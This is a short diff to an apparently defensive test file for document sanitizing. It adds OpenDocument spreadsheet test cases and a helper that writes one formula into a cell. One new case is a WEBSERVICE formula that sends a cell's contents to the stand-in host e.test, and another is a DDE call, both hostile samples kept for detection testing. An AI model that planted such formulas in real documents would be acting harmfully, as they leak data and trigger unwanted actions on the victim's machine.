@@ -239,7 +239,17 @@ def passed_once() -> list[tuple[str, bytes]]:
         ("a.odt", s.open_document(content_DOT_xml=listener % SCRIPT)),
         ("a.odt", s.open_document(content_DOT_xml=picture)),
         ("a.odt", s.open_document(styles_DOT_xml=listener % SCRIPT)),
+        ("a.ods", s.open_document("ods", content_DOT_xml=_cell(b'of:=WEBSERVICE("http://e.test/"&amp;[.A2])'))),
+        ("a.ods", s.open_document("ods", content_DOT_xml=_cell(b'of:=DDE("soffice";"a.ods";"A1")'))),
     ]
+
+
+TABLE = b"urn:oasis:names:tc:opendocument:xmlns:table:1.0"
+
+
+def _cell(formula: bytes) -> bytes:
+    """A worksheet of an OpenDocument file with one formula."""
+    return b"<t:table-cell xmlns:t='%s' t:formula='%s'/>" % (TABLE, formula)
 
 
 RELATIONS = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
